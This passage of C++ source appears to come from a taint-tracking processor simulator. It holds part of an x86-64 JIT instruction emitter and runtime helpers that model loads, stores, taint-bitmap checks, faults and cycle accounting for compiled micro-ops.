    // ---- shifts ----------------------------------------------------

    enum Shift : uint8_t
    {
        SH_SHL = 4,
        SH_SHR = 5,
        SH_SAR = 7,
    };

    void shiftRegImm(Shift op, Reg r, uint8_t imm)
    {
        if (imm == 0)
            return;
        rex(1, op, r);
        if (imm == 1) {
            byte(0xd1);
            modrm(3, op, r & 7);
            return;
        }
        byte(0xc1);
        modrm(3, op, r & 7);
        byte(imm);
    }

    /** shift r by cl */
    void shiftRegCl(Shift op, Reg r)
    {
        rex(1, op, r);
        byte(0xd3);
        modrm(3, op, r & 7);
    }

    // ---- extensions / setcc ----------------------------------------

    /** movsx dst64 from 8/16/32-bit src (same register allowed). */
    void movsxReg(Reg dst, Reg src, unsigned srcBytes)
    {
        switch (srcBytes) {
        case 1:
            rex(1, dst, src);
            byte(0x0f);
            byte(0xbe);
            break;
        case 2:
            rex(1, dst, src);
            byte(0x0f);
            byte(0xbf);
            break;
        case 4:
            rex(1, dst, src);
            byte(0x63); // movsxd
            break;
        default:
            SHIFT_ASSERT(false, "movsx size");
        }
        modrm(3, dst & 7, src & 7);
    }

    /** movzx dst from 8/16-bit src; 32-bit uses mov r32, r32. */
    void movzxReg(Reg dst, Reg src, unsigned srcBytes)
    {
        switch (srcBytes) {
        case 1:
            rex(1, dst, src); // REX.W harmless; forces sil/dil access
            byte(0x0f);
            byte(0xb6);
            modrm(3, dst & 7, src & 7);
            break;
        case 2:
            rex(1, dst, src);
            byte(0x0f);
            byte(0xb7);
            modrm(3, dst & 7, src & 7);
            break;
        case 4:
            rexOpt(0, src, dst);
            byte(0x89);
            modrm(3, src & 7, dst & 7);
            break;
        default:
            SHIFT_ASSERT(false, "movzx size");
        }
    }

    /** setcc r8 (REX forced so any register's low byte works). */
    void setcc(Cond cc, Reg r)
    {
        rex8(Reg(0), r);
        byte(0x0f);
        byte(0x90 | cc);
        modrm(3, 0, r & 7);
    }

    // ---- stack -----------------------------------------------------

    void push(Reg r)
    {
        rexOpt(0, 0, r);
        byte(0x50 | (r & 7));
    }

    void pop(Reg r)
    {
        rexOpt(0, 0, r);
        byte(0x58 | (r & 7));
    }

  private:
    struct Fixup
    {
        size_t at;
        int label;
    };

    std::vector<uint8_t> buf_;
    std::vector<int64_t> labels_;
    std::vector<Fixup> fixups_;

    void byte(uint8_t b) { buf_.push_back(b); }

    void word32(uint32_t v)
    {
        size_t at = buf_.size();
        buf_.resize(at + 4);
        std::memcpy(&buf_[at], &v, 4);
    }

    void word64(uint64_t v)
    {
        size_t at = buf_.size();
        buf_.resize(at + 8);
        std::memcpy(&buf_[at], &v, 8);
    }

    void rel32(int label)
    {
        fixups_.push_back({buf_.size(), label});
        word32(0);
    }

    void modrm(uint8_t mod, uint8_t reg, uint8_t rm)
    {
        byte(uint8_t(mod << 6) | uint8_t(reg << 3) | rm);
    }

    /** REX with W as given; reg/base extension bits from operands. */
    void rex(uint8_t w, uint8_t reg, uint8_t rm)
    {
        byte(0x40 | uint8_t(w << 3) | uint8_t(((reg >> 3) & 1) << 2) |
             ((rm >> 3) & 1));
    }

    /** REX only when an extension bit (or W) is needed. */
    void rexOpt(uint8_t w, uint8_t reg, uint8_t rm)
    {
        if (w || reg >= 8 || rm >= 8)
            rex(w, reg, rm);
    }

    /** REX for byte-register ops: always emitted (sil/dil/r8b..). */
    void rex8(uint8_t reg, uint8_t rm)
    {
        rex(0, reg, rm);
    }

    /** [base + disp] with SIB when base is rsp/r12, using the shortest
     *  displacement encoding (none / disp8 / disp32). rbp/r13 cannot
     *  take the no-displacement form (mod=0 rm=5 means rip-relative),
     *  so they fall through to disp8 with a zero byte. */
    void mem(Reg regField, Reg base, int32_t disp)
    {
        uint8_t rm = base & 7;
        uint8_t mod;
        if (disp == 0 && rm != 5)
            mod = 0;
        else if (disp >= -128 && disp <= 127)
            mod = 1;
        else
            mod = 2;
        modrm(mod, regField & 7, rm == 4 ? 4 : rm);
        if (rm == 4)
            byte(0x24); // SIB: scale=0, index=none, base=rsp/r12
        if (mod == 1)
            byte(uint8_t(disp));
        else if (mod == 2)
            word32(uint32_t(disp));
    }
};

} // namespace shift::jit

#endif // SHIFT_JIT_X64_EMITTER_HH
