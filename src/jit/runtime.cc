/**
 * @file
 * JIT runtime helpers: the out-of-line halves of compiled micro-ops.
 *
 * Each helper is a line-for-line transliteration of the corresponding
 * interpreter handler in src/sim/machine.cc (the comments there carry
 * the constituent-by-constituent story; here only the mechanics).
 * The interpreter's loop locals map onto JitCtx accumulators:
 *
 *     cycles/instrs     -> ctx->cycles / ctx->instrs
 *     cyFlat/inFlat     -> ctx->cyFlat / ctx->inFlat (same arrays)
 *     stallCycles_      -> ctx->stall (folded on exit)
 *     loadMask          -> ctx->loadMask (helpers that end in a load
 *                          set it; emitted code mirrors it in rbp)
 *     sync()            -> spill() below, using the pc packed in pcw
 *
 * A helper that faults performs exactly what the interpreter does:
 * spill the deltas into the Machine, set archPcOverride_ where the
 * fused handler would, call setFault (which always stops the machine,
 * possibly converting to a policy alert), then report exit.
 */

#include "jit/jit_internal.hh"

#include <bit>

#include "dift/tier.hh"
#include "sim/machine.hh"
#include "support/bitops.hh"
#include "support/logging.hh"

namespace shift::jit
{

namespace
{

/** Charge one retired constituent against a stat bucket. */
inline void
chg(JitCtx *c, unsigned statIdx, uint64_t cost)
{
    c->cycles += cost;
    ++c->instrs;
    c->cyFlat[statIdx] += cost;
    c->inFlat[statIdx] += 1;
}

/** An interior load-use stall (cycles only, no instruction). */
inline void
stall(JitCtx *c, unsigned statIdx, uint64_t cost)
{
    c->cycles += cost;
    c->stall += cost;
    c->cyFlat[statIdx] += cost;
}

/**
 * Per-helper charge accumulator. The interpreter's charges go to loop
 * locals the compiler keeps in registers; a helper that RMW'd the
 * JitCtx accumulators once per constituent instead would serialize on
 * store-to-load forwarding (a fused taint op charges up to fourteen
 * constituents against the same field) and hand much of the tier's
 * throughput win back. So the multi-constituent helpers accumulate
 * into an Acc and flush once per exit path — fault paths flush before
 * spill(), which keeps the Machine a fault handler sees identical to
 * the interpreter's. Bucket slots are indexed by compile-time
 * constants so the accumulators stay in registers.
 */
template <int N> struct Acc
{
    JitCtx *c;
    unsigned idx[N];
    uint64_t cy[N] = {};
    uint64_t in[N] = {};
    uint64_t cycles = 0;
    uint64_t instrs = 0;
    uint64_t stallCy = 0;

    void
    chg(int b, uint64_t cost)
    {
        cycles += cost;
        ++instrs;
        cy[b] += cost;
        ++in[b];
    }
    /** Cycles-only rider on an already-charged constituent (dcache). */
    void
    extra(int b, uint64_t cost)
    {
        cycles += cost;
        cy[b] += cost;
    }
    void
    stall(int b, uint64_t cost)
    {
        cycles += cost;
        stallCy += cost;
        cy[b] += cost;
    }
    void
    flush()
    {
        c->cycles += cycles;
        c->instrs += instrs;
        c->stall += stallCy;
        for (int i = 0; i < N; ++i) {
            c->cyFlat[idx[i]] += cy[i];
            c->inFlat[idx[i]] += in[i];
        }
    }
};

} // namespace

/*
 * The JIT's sync(): materialize the interpreter-visible state before
 * a fault. Mirrors runDecoded's sync() plus the fold the interpreter
 * hook performs on exit (accumulators are zeroed so the hook's
 * unconditional fold never double-counts), so a policy handler
 * running under setFault sees the same Machine a faulting
 * interpreter shows it.
 */
void
JitOps::spill(JitCtx *c, uint64_t pcw)
{
    // Compiled code addresses the register file as val@16r/nat@16r+8;
    // JitOps is the friend that can see the layout, so pin it here.
    static_assert(sizeof(Machine::Gpr) == 16 &&
                      offsetof(Machine::Gpr, nat) == 8,
                  "Gpr layout is baked into emitted code");
    Machine &m = *c->m;
    uint64_t pc = pcw & 0xffffffffu;
    m.pc_ = pc;
    m.inFast_ = (pcw >> 32) != 0;
    m.cycles_ += c->cycles;
    c->cycles = 0;
    m.instrs_ += c->instrs;
    c->instrs = 0;
    m.stallCycles_ += c->stall;
    c->stall = 0;
    m.fpColdBails_ += c->coldBails;
    c->coldBails = 0;
    m.jitDeopts_ += c->deopts;
    c->deopts = 0;
    m.fpEnteredTotal_ += c->fpEntered;
    c->fpEntered = 0;
    m.lastLoadDst_ =
        c->loadMask ? std::countr_zero(c->loadMask) : -1;
    c->exitPc = pc;
    c->exitInFast = pcw >> 32;
}

uint64_t
JitOps::ld(JitCtx *c, const DecodedInstr *dp, uint64_t pcw)
{
    Machine &m = *c->m;
    const unsigned statIdx = dp->statIdx;
    Acc<1> acc{c, {statIdx}};
    const auto addrReg = m.gpr_[dp->r2];
    uint64_t addr = addrReg.val;
    if (dp->spec) {
        if (addrReg.nat ||
            m.mem_.probe(addr, dp->size) != MemFault::None) {
            m.setGpr(dp->r1, 0, true);
            chg(c, statIdx, m.cycleModel_.loadBase);
            return 0;
        }
    } else if (addrReg.nat) {
        spill(c, pcw);
        FaultContext fctx =
            dp->statIdx % kNumOrigClass ==
                    static_cast<int>(OrigClass::ForStore)
                ? FaultContext::StoreAddress
                : FaultContext::LoadAddress;
        m.setFault(FaultKind::NatConsumption, fctx, addr,
                   "load through a NaT (tainted) address");
        return 1;
    }
    uint64_t value = 0;
    bool nat = false;
    MemFault mf = dp->fill ? m.mem_.readFill(addr, value, nat)
                           : m.mem_.read(addr, dp->size, value);
    if (mf != MemFault::None) {
        spill(c, pcw);
        m.setFault(FaultKind::IllegalAddress, FaultContext::LoadAddress,
                   addr, "load from illegal address");
        return 1;
    }
    m.setGpr(dp->r1, value, nat);
    ++m.loadCount_;
    acc.chg(0, m.cycleModel_.loadBase);
    acc.extra(0, m.dcache_.access(addr) ? m.cycleModel_.loadHit
                                        : m.cycleModel_.loadMiss);
    acc.flush();
    return 0;
}

uint64_t
JitOps::st(JitCtx *c, const DecodedInstr *dp, uint64_t pcw)
{
    Machine &m = *c->m;
    const unsigned statIdx = dp->statIdx;
    const auto addrReg = m.gpr_[dp->r1];
    const auto srcReg = m.gpr_[dp->r2];
    uint64_t addr = addrReg.val;
    if (addrReg.nat) {
        spill(c, pcw);
        m.setFault(FaultKind::NatConsumption, FaultContext::StoreAddress,
                   addr, "store through a NaT (tainted) address");
        return 1;
    }
    if (srcReg.nat && !dp->spill) {
        spill(c, pcw);
        m.setFault(FaultKind::NatConsumption, FaultContext::StoreValue,
                   addr, "plain store of a NaT source register");
        return 1;
    }
    MemFault mf;
    if (dp->spill) {
        mf = m.mem_.writeSpill(addr, srcReg.val, srcReg.nat);
        if (mf == MemFault::None) {
            unsigned bitIdx = static_cast<unsigned>((addr >> 3) & 63);
            m.unat_ = insertBit(m.unat_, bitIdx, srcReg.nat);
        }
    } else {
        mf = m.mem_.write(addr, dp->size, srcReg.val);
    }
    if (mf != MemFault::None) {
        spill(c, pcw);
        m.setFault(FaultKind::IllegalAddress, FaultContext::StoreAddress,
                   addr, "store to illegal address");
        return 1;
    }
    ++m.storeCount_;
    Acc<1> acc{c, {statIdx}};
    acc.chg(0, m.cycleModel_.storeBase);
    acc.extra(0, m.dcache_.access(addr) ? 0 : m.cycleModel_.storeMiss);
    acc.flush();
    return 0;
}

/*
 * Retire halves of the compiler's inline Ld/St fast paths. The
 * emitted code has already translated the address, proven the access
 * non-faulting (no NaT operands, cache-hit page, in-page, writable
 * for stores, not the tag region) and moved the data; what remains is
 * exactly the interpreter's post-access bookkeeping: the load/store
 * counter, the data-cache model (which mutates LRU state and must be
 * consulted once per committed access) and the op's charges.
 */
void
JitOps::ldRetire(JitCtx *c, uint64_t addr, uint64_t statIdx)
{
    Machine &m = *c->m;
    ++m.loadCount_;
    uint64_t cost = m.cycleModel_.loadBase +
                    (m.dcache_.access(addr) ? m.cycleModel_.loadHit
                                            : m.cycleModel_.loadMiss);
    c->cycles += cost;
    ++c->instrs;
    c->cyFlat[statIdx] += cost;
    c->inFlat[statIdx] += 1;
}

void
JitOps::stRetire(JitCtx *c, uint64_t addr, uint64_t statIdx)
{
    Machine &m = *c->m;
    ++m.storeCount_;
    uint64_t cost =
        m.cycleModel_.storeBase +
        (m.dcache_.access(addr) ? 0 : m.cycleModel_.storeMiss);
    c->cycles += cost;
    ++c->instrs;
    c->cyFlat[statIdx] += cost;
    c->inFlat[statIdx] += 1;
}

/*
 * FusedClearNat's retire: the op is a spill store plus a reload of
 * the same word, so it charges the address ALU, the store and the
 * load against its own bucket — with the data cache consulted once
 * per access in the interpreter's order (the store's access warms the
 * line the reload then hits, but that is the model's verdict to give,
 * not an assumption to bake).
 */
void
JitOps::clearNatRetire(JitCtx *c, uint64_t addr, uint64_t statIdx)
{
    Machine &m = *c->m;
    ++m.storeCount_;
    ++m.loadCount_;
    uint64_t cost = m.cycleModel_.alu + m.cycleModel_.storeBase +
                    m.cycleModel_.loadBase;
    cost += m.dcache_.access(addr) ? 0 : m.cycleModel_.storeMiss;
    cost += m.dcache_.access(addr) ? m.cycleModel_.loadHit
                                   : m.cycleModel_.loadMiss;
    c->cycles += cost;
    c->instrs += 3;
    c->cyFlat[statIdx] += cost;
    c->inFlat[statIdx] += 3;
}

/*
 * FusedChkByte's retire: the charges of the macro-op's clean body —
 * two one-byte bitmap loads against the memory bucket, six ALU
 * constituents plus the interior load-use stall against the
 * tag-address bucket and the predicate write against the register
 * bucket, exactly as the helper's Acc<3> distributes them.
 */
void
JitOps::chkByteRetire(JitCtx *c, uint64_t addr, uint64_t statIdx)
{
    Machine &m = *c->m;
    const unsigned cls = unsigned(statIdx) % kNumOrigClass;
    const unsigned idxAddr =
        statIndex(Provenance::TagAddr, static_cast<OrigClass>(cls));
    const unsigned idxReg =
        statIndex(Provenance::TagReg, static_cast<OrigClass>(cls));
    m.loadCount_ += 2;
    uint64_t memCy =
        2 * m.cycleModel_.loadBase +
        (m.dcache_.access(addr) ? m.cycleModel_.loadHit
                                : m.cycleModel_.loadMiss) +
        (m.dcache_.access(addr + 1) ? m.cycleModel_.loadHit
                                    : m.cycleModel_.loadMiss);
    uint64_t addrCy =
        6 * m.cycleModel_.alu + m.cycleModel_.loadUseStall;
    uint64_t regCy = m.cycleModel_.alu;
    c->cycles += memCy + addrCy + regCy;
    c->instrs += 9;
    c->stall += m.cycleModel_.loadUseStall;
    c->cyFlat[statIdx] += memCy;
    c->inFlat[statIdx] += 2;
    c->cyFlat[idxAddr] += addrCy;
    c->inFlat[idxAddr] += 6;
    c->cyFlat[idxReg] += regCy;
    c->inFlat[idxReg] += 1;
}

uint64_t
JitOps::divmod(JitCtx *c, const DecodedInstr *dp, uint64_t pcw)
{
    Machine &m = *c->m;
    uint64_t a = m.gpr_[dp->r2].val;
    uint64_t b = dp->useImm ? static_cast<uint64_t>(dp->imm)
                            : m.gpr_[dp->r3].val;
    bool nat = m.gpr_[dp->r2].nat ||
               (dp->useImm ? false : m.gpr_[dp->r3].nat);
    uint64_t result = 0;
    if (b == 0) {
        if (!nat) {
            spill(c, pcw);
            m.setFault(FaultKind::DivByZero, FaultContext::None, 0,
                       "division by zero");
            return 1;
        }
        result = 0;
    } else if (dp->op == Opcode::DivU) {
        result = a / b;
    } else if (dp->op == Opcode::ModU) {
        result = a % b;
    } else {
        int64_t sa = static_cast<int64_t>(a);
        int64_t sb = static_cast<int64_t>(b);
        if (sa == INT64_MIN && sb == -1) {
            result = dp->op == Opcode::Div
                         ? static_cast<uint64_t>(INT64_MIN)
                         : 0;
        } else if (dp->op == Opcode::Div) {
            result = static_cast<uint64_t>(sa / sb);
        } else {
            result = static_cast<uint64_t>(sa % sb);
        }
    }
    m.setGpr(dp->r1, result, nat);
    chg(c, dp->statIdx, m.cycleModel_.div);
    return 0;
}

uint64_t
JitOps::chkByte(JitCtx *c, const DecodedInstr *dp, uint64_t pcw)
{
    Machine &m = *c->m;
    const unsigned cls = dp->statIdx % kNumOrigClass;
    const unsigned idxMem = dp->statIdx;
    const unsigned idxAddr =
        statIndex(Provenance::TagAddr, static_cast<OrigClass>(cls));
    const unsigned idxReg =
        statIndex(Provenance::TagReg, static_cast<OrigClass>(cls));
    Acc<3> acc{c, {idxMem, idxAddr, idxReg}};
    const auto a = m.gpr_[dp->br];
    if (a.nat) {
        m.archPcOverride_ = dp->origIndex;
        acc.flush();
        spill(c, pcw);
        m.setFault(FaultKind::NatConsumption,
                   cls == static_cast<unsigned>(OrigClass::ForStore)
                       ? FaultContext::StoreAddress
                       : FaultContext::LoadAddress,
                   a.val, "load through a NaT (tainted) address");
        return 1;
    }
    uint64_t lo = 0;
    MemFault mf = m.mem_.read(a.val, 1, lo);
    if (mf != MemFault::None) {
        m.archPcOverride_ = dp->origIndex;
        acc.flush();
        spill(c, pcw);
        m.setFault(FaultKind::IllegalAddress, FaultContext::LoadAddress,
                   a.val, "load from illegal address");
        return 1;
    }
    m.setGpr(dp->r1, lo, false);
    ++m.loadCount_;
    acc.chg(0, m.cycleModel_.loadBase);
    acc.extra(0, m.dcache_.access(a.val) ? m.cycleModel_.loadHit : m.cycleModel_.loadMiss);
    uint64_t hiAddr = a.val + 1;
    m.setGpr(dp->r3, hiAddr, false);
    acc.chg(1, m.cycleModel_.alu);
    uint64_t hi = 0;
    mf = m.mem_.read(hiAddr, 1, hi);
    if (mf != MemFault::None) {
        m.archPcOverride_ = dp->origIndex + 2;
        acc.flush();
        spill(c, pcw);
        m.setFault(FaultKind::IllegalAddress, FaultContext::LoadAddress,
                   hiAddr, "load from illegal address");
        return 1;
    }
    m.setGpr(dp->r3, hi, false);
    ++m.loadCount_;
    acc.chg(0, m.cycleModel_.loadBase);
    acc.extra(0, m.dcache_.access(hiAddr) ? m.cycleModel_.loadHit : m.cycleModel_.loadMiss);
    acc.stall(1, m.cycleModel_.loadUseStall);
    hi <<= 8;
    m.setGpr(dp->r3, hi, false);
    acc.chg(1, m.cycleModel_.alu);
    lo |= hi;
    m.setGpr(dp->r1, lo, false);
    acc.chg(1, m.cycleModel_.alu);
    const auto r = m.gpr_[dp->r2];
    uint64_t bitIdx = r.val & 7;
    m.setGpr(dp->r3, bitIdx, r.nat);
    acc.chg(1, m.cycleModel_.alu);
    lo >>= bitIdx;
    m.setGpr(dp->r1, lo, r.nat);
    acc.chg(1, m.cycleModel_.alu);
    lo &= static_cast<uint64_t>(dp->imm);
    m.setGpr(dp->r1, lo, r.nat);
    acc.chg(1, m.cycleModel_.alu);
    m.setPred(dp->p1, r.nat ? false : lo != 0);
    acc.chg(2, m.cycleModel_.alu);
    acc.flush();
    // Warm the summary's probe cache for the lines just read: the
    // inline body's summary shortcut can then prove later checks of
    // them clean without re-entering this helper. Pure cache refresh,
    // no architectural effect.
    (void)m.mem_.taintSummary().lineDirty(a.val);
    (void)m.mem_.taintSummary().lineDirty(hiAddr);
    return 0;
}

uint64_t
JitOps::chkWord(JitCtx *c, const DecodedInstr *dp, uint64_t pcw)
{
    Machine &m = *c->m;
    const unsigned cls = dp->statIdx % kNumOrigClass;
    const unsigned idxMem = dp->statIdx;
    const unsigned idxAddr =
        statIndex(Provenance::TagAddr, static_cast<OrigClass>(cls));
    const unsigned idxReg =
        statIndex(Provenance::TagReg, static_cast<OrigClass>(cls));
    Acc<3> acc{c, {idxMem, idxAddr, idxReg}};
    const auto a = m.gpr_[dp->br];
    if (a.nat) {
        m.archPcOverride_ = dp->origIndex;
        acc.flush();
        spill(c, pcw);
        m.setFault(FaultKind::NatConsumption,
                   cls == static_cast<unsigned>(OrigClass::ForStore)
                       ? FaultContext::StoreAddress
                       : FaultContext::LoadAddress,
                   a.val, "load through a NaT (tainted) address");
        return 1;
    }
    uint64_t lo = 0;
    MemFault mf = m.mem_.read(a.val, 1, lo);
    if (mf != MemFault::None) {
        m.archPcOverride_ = dp->origIndex;
        acc.flush();
        spill(c, pcw);
        m.setFault(FaultKind::IllegalAddress, FaultContext::LoadAddress,
                   a.val, "load from illegal address");
        return 1;
    }
    m.setGpr(dp->r1, lo, false);
    ++m.loadCount_;
    acc.chg(0, m.cycleModel_.loadBase);
    acc.extra(0, m.dcache_.access(a.val) ? m.cycleModel_.loadHit : m.cycleModel_.loadMiss);
    const auto r = m.gpr_[dp->r2];
    uint64_t bitIdx = (r.val >> 3) & 7;
    m.setGpr(dp->r3, bitIdx, r.nat);
    acc.chg(1, m.cycleModel_.alu);
    lo >>= bitIdx;
    m.setGpr(dp->r1, lo, r.nat);
    acc.chg(1, m.cycleModel_.alu);
    m.setPred(dp->p1, r.nat ? false : bit(lo, 0));
    acc.chg(2, m.cycleModel_.alu);
    acc.flush();
    return 0;
}

uint64_t
JitOps::clearNat(JitCtx *c, const DecodedInstr *dp, uint64_t pcw)
{
    Machine &m = *c->m;
    const unsigned statIdx = dp->statIdx;
    Acc<1> acc{c, {statIdx}};
    const auto bs = m.gpr_[dp->r2];
    uint64_t addr = bs.val + static_cast<uint64_t>(dp->imm);
    m.setGpr(dp->r3, addr, bs.nat);
    acc.chg(0, m.cycleModel_.alu);
    if (bs.nat) {
        m.archPcOverride_ = dp->origIndex + 1;
        acc.flush();
        spill(c, pcw);
        m.setFault(FaultKind::NatConsumption, FaultContext::StoreAddress,
                   addr, "store through a NaT (tainted) address");
        return 1;
    }
    const auto src = m.gpr_[dp->r1];
    MemFault mf = m.mem_.writeSpill(addr, src.val, src.nat);
    if (mf == MemFault::None) {
        unsigned spillBit = static_cast<unsigned>((addr >> 3) & 63);
        m.unat_ = insertBit(m.unat_, spillBit, src.nat);
    } else {
        m.archPcOverride_ = dp->origIndex + 1;
        acc.flush();
        spill(c, pcw);
        m.setFault(FaultKind::IllegalAddress, FaultContext::StoreAddress,
                   addr, "store to illegal address");
        return 1;
    }
    ++m.storeCount_;
    acc.chg(0, m.cycleModel_.storeBase);
    acc.extra(0, m.dcache_.access(addr) ? 0 : m.cycleModel_.storeMiss);
    uint64_t v = 0;
    mf = m.mem_.read(addr, 8, v);
    if (mf != MemFault::None) {
        m.archPcOverride_ = dp->origIndex + 2;
        acc.flush();
        spill(c, pcw);
        m.setFault(FaultKind::IllegalAddress, FaultContext::LoadAddress,
                   addr, "load from illegal address");
        return 1;
    }
    m.setGpr(dp->r1, v, false);
    ++m.loadCount_;
    acc.chg(0, m.cycleModel_.loadBase);
    acc.extra(0, m.dcache_.access(addr) ? m.cycleModel_.loadHit : m.cycleModel_.loadMiss);
    // Last constituent is a load: the next op's use of r1 stalls.
    c->loadMask = 1ULL << (dp->r1 & 63);
    acc.flush();
    return 0;
}

uint64_t
JitOps::stUpd(JitCtx *c, const DecodedInstr *dp, uint64_t pcw)
{
    Machine &m = *c->m;
    const bool byteGran = dp->op == Opcode::FusedStUpdByte;
    const unsigned cls = dp->statIdx % kNumOrigClass;
    const unsigned idxAddr = dp->statIdx;
    const unsigned idxMem =
        statIndex(Provenance::TagMem, static_cast<OrigClass>(cls));
    const unsigned idxReg =
        statIndex(Provenance::TagReg, static_cast<OrigClass>(cls));
    Acc<3> acc{c, {idxMem, idxAddr, idxReg}};
    const auto r = m.gpr_[dp->r2];
    uint64_t t2v = byteGran ? (r.val & 7) : ((r.val >> 3) & 7);
    m.setGpr(dp->br, t2v, r.nat);
    acc.chg(1, m.cycleModel_.alu);
    uint64_t t3v = static_cast<uint64_t>(dp->imm);
    m.setGpr(dp->r3, t3v, false);
    acc.chg(1, m.cycleModel_.alu);
    t3v <<= t2v;
    bool t3n = r.nat;
    m.setGpr(dp->r3, t3v, t3n);
    acc.chg(1, m.cycleModel_.alu);
    const auto a = m.gpr_[static_cast<size_t>(dp->target)];
    if (a.nat) {
        m.archPcOverride_ = dp->origIndex + 3;
        acc.flush();
        spill(c, pcw);
        m.setFault(FaultKind::NatConsumption,
                   cls == static_cast<unsigned>(OrigClass::ForStore)
                       ? FaultContext::StoreAddress
                       : FaultContext::LoadAddress,
                   a.val, "load through a NaT (tainted) address");
        return 1;
    }
    uint64_t t1v = 0;
    MemFault mf = m.mem_.read(a.val, 1, t1v);
    if (mf != MemFault::None) {
        m.archPcOverride_ = dp->origIndex + 3;
        acc.flush();
        spill(c, pcw);
        m.setFault(FaultKind::IllegalAddress, FaultContext::LoadAddress,
                   a.val, "load from illegal address");
        return 1;
    }
    bool t1n = false;
    m.setGpr(dp->r1, t1v, t1n);
    ++m.loadCount_;
    acc.chg(0, m.cycleModel_.loadBase);
    acc.extra(0, m.dcache_.access(a.val) ? m.cycleModel_.loadHit : m.cycleModel_.loadMiss);
    if (m.pred_[dp->p1]) {
        acc.stall(2, m.cycleModel_.loadUseStall);
        t1v |= t3v;
        t1n = t1n || t3n;
        m.setGpr(dp->r1, t1v, t1n);
        acc.chg(2, m.cycleModel_.alu);
    } else {
        acc.chg(2, m.cycleModel_.nullified);
    }
    if (m.pred_[dp->p2]) {
        t1v &= ~t3v;
        t1n = t1n || t3n;
        m.setGpr(dp->r1, t1v, t1n);
        acc.chg(2, m.cycleModel_.alu);
    } else {
        acc.chg(2, m.cycleModel_.nullified);
    }
    if (t1n) {
        m.archPcOverride_ = dp->origIndex + 6;
        acc.flush();
        spill(c, pcw);
        m.setFault(FaultKind::NatConsumption, FaultContext::StoreValue,
                   a.val, "plain store of a NaT source register");
        return 1;
    }
    mf = m.mem_.write(a.val, 1, t1v);
    if (mf != MemFault::None) {
        m.archPcOverride_ = dp->origIndex + 6;
        acc.flush();
        spill(c, pcw);
        m.setFault(FaultKind::IllegalAddress, FaultContext::StoreAddress,
                   a.val, "store to illegal address");
        return 1;
    }
    ++m.storeCount_;
    acc.chg(0, m.cycleModel_.storeBase);
    acc.extra(0, m.dcache_.access(a.val) ? 0 : m.cycleModel_.storeMiss);
    if (byteGran) {
        t3v >>= 8;
        m.setGpr(dp->r3, t3v, t3n);
        acc.chg(1, m.cycleModel_.alu);
        uint64_t hiAddr = a.val + 1;
        m.setGpr(dp->br, hiAddr, false);
        acc.chg(1, m.cycleModel_.alu);
        mf = m.mem_.read(hiAddr, 1, t1v);
        if (mf != MemFault::None) {
            m.archPcOverride_ = dp->origIndex + 9;
            acc.flush();
            spill(c, pcw);
            m.setFault(FaultKind::IllegalAddress,
                       FaultContext::LoadAddress, hiAddr,
                       "load from illegal address");
            return 1;
        }
        t1n = false;
        m.setGpr(dp->r1, t1v, t1n);
        ++m.loadCount_;
        acc.chg(0, m.cycleModel_.loadBase);
        acc.extra(0, m.dcache_.access(hiAddr) ? m.cycleModel_.loadHit : m.cycleModel_.loadMiss);
        if (m.pred_[dp->p1]) {
            acc.stall(2, m.cycleModel_.loadUseStall);
            t1v |= t3v;
            t1n = t1n || t3n;
            m.setGpr(dp->r1, t1v, t1n);
            acc.chg(2, m.cycleModel_.alu);
        } else {
            acc.chg(2, m.cycleModel_.nullified);
        }
        if (m.pred_[dp->p2]) {
            t1v &= ~t3v;
            t1n = t1n || t3n;
            m.setGpr(dp->r1, t1v, t1n);
            acc.chg(2, m.cycleModel_.alu);
        } else {
            acc.chg(2, m.cycleModel_.nullified);
        }
        if (t1n) {
            m.archPcOverride_ = dp->origIndex + 12;
            acc.flush();
            spill(c, pcw);
            m.setFault(FaultKind::NatConsumption,
                       FaultContext::StoreValue, hiAddr,
                       "plain store of a NaT source register");
            return 1;
        }
        mf = m.mem_.write(hiAddr, 1, t1v);
        if (mf != MemFault::None) {
            m.archPcOverride_ = dp->origIndex + 12;
            acc.flush();
            spill(c, pcw);
            m.setFault(FaultKind::IllegalAddress,
                       FaultContext::StoreAddress, hiAddr,
                       "store to illegal address");
            return 1;
        }
        ++m.storeCount_;
        acc.chg(0, m.cycleModel_.storeBase);
        acc.extra(0, m.dcache_.access(hiAddr) ? 0 : m.cycleModel_.storeMiss);
    }
    acc.flush();
    return 0;
}

bool
JitOps::coldBail(JitCtx *c, const DecodedInstr *dp)
{
    Machine &m = *c->m;
    uint32_t b = static_cast<uint32_t>(dp->callee);
    if (m.fpCold_[b]) {
        ++c->coldBails;
        return true;
    }
    ++m.fpEnters_[b];
    ++m.fpEnteredTotal_;
    return false;
}

void
JitOps::deopt(JitCtx *c, const DecodedInstr *dp, obs::DeoptCause cause)
{
    Machine &m = *c->m;
    uint32_t b = static_cast<uint32_t>(dp->callee);
    ++m.fpDeoptTotal_;
    ++m.fpDeoptCause_[static_cast<size_t>(cause)];
    uint32_t d = ++m.fpDeopts_[b];
    if (d >= kFpColdDeopts && d * 2 >= m.fpEnters_[b])
        m.fpCold_[b] = 1;
    ++c->deopts;
}

uint64_t
JitOps::fpEnter(JitCtx *c, const DecodedInstr *dp, uint64_t)
{
    if (coldBail(c, dp))
        return 2;
    return 0;
}

uint64_t
JitOps::fpChk(JitCtx *c, const DecodedInstr *dp, uint64_t)
{
    Machine &m = *c->m;
    if ((dp->p2 & 4) && coldBail(c, dp))
        return 2;
    const auto &a = m.gpr_[(dp->p2 & 1) ? dp->r2 : dp->br];
    uint64_t t0v = a.val;
    if (dp->p2 & 1) {
        const unsigned ds = dp->size == 1 ? 6 : 3;
        t0v = (((a.val >> kRegionShift) & 7)
               << (kImplementedBits - ds)) |
              ((a.val >> ds) & lowMask(kImplementedBits - ds));
    } else if (m.gpr_[dp->r2].nat) {
        deopt(c, dp, obs::DeoptCause::ChkAddrNat);
        return 2;
    }
    if (a.nat ||
        (dp->size == 2 ? m.mem_.taintSummary().pairDirty(t0v)
                       : m.mem_.taintSummary().lineDirty(t0v))) {
        deopt(c, dp,
              a.nat ? obs::DeoptCause::ChkAddrNat
                    : obs::DeoptCause::ChkSummary);
        return 2;
    }
    m.setPred(dp->p1, false);
    return 0;
}

uint64_t
JitOps::fpSt(JitCtx *c, const DecodedInstr *dp, uint64_t)
{
    Machine &m = *c->m;
    bool srcTaint;
    if (dp->p2 & 2) {
        srcTaint = m.gpr_[dp->r3].nat;
        m.setPred(dp->p1, srcTaint);
        m.setPred(dp->pos, !srcTaint);
    } else {
        srcTaint = m.pred_[dp->p1];
    }
    // Merged block entry after the Tnat's predicate writes, exactly as
    // the interpreter orders it: a cold bail's deopt pc sits after the
    // elided Tnat and needs the predicates already written.
    if ((dp->p2 & 4) && coldBail(c, dp))
        return 2;
